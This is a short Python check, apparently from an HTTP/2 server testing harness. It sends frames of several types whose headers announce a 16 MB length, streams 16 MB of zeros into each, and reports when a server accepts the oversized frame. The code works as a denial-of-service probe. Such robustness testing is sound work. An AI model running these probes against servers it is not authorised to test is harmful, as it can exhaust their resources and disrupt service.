"""Frames that announce 16 MB."""

import http2
from attacker import receive_until_end, send


def attack(attacker):
    while not attacker.over():
        for kind in (http2.DATA, http2.HEADERS, http2.SETTINGS, 200):
            connection = attacker.http2(b"\xff\xff\xff" + bytes((kind, 0, 0, 0, 0, 1)))
            sent = sum(send(connection, bytes(65536)) for _ in range(256))
            if sent == 256 or receive_until_end(connection) is None:
                return [f"16 MB in a frame of type {kind} are accepted"]
